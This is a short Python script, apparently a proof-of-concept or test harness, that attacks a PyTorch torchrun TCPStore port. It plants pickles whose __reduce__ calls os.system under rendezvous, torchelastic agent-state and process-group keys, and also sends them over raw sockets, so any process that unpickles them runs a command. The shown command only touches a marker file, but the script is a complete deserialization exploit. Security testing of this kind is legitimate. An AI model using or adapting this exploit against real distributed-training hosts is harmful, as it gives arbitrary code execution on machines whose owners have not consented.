"""Whoever reaches torchrun's port: leaves pickles that touch MARKER wherever torch might unpickle. PORT MARKER."""

import base64
import os
import pickle
import socket
import sys
from contextlib import suppress
from datetime import timedelta

from torch.distributed import TCPStore

port, marker = int(sys.argv[1]), sys.argv[2]


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {marker}",)


evil = pickle.dumps(Evil())
store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=20))
for run_id in ("none", "attacked", ""):
    for key in (
        f"torch.rendezvous.{run_id}",
        f"{run_id}/torch.rendezvous.{run_id}",
        f"/{run_id}/torch.rendezvous.{run_id}",
    ):
        store.set(key, base64.b64encode(evil))
for key in (
    "torchelastic/agent/state",
    "torchelastic/role_info/0",
    "none/torchelastic/agent/terminal_state",
    "default_pg/0",
):
    store.set(key, evil)
for message in (evil, base64.b64encode(evil), b"\x00" * 64):
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
        raw.sendall(message)
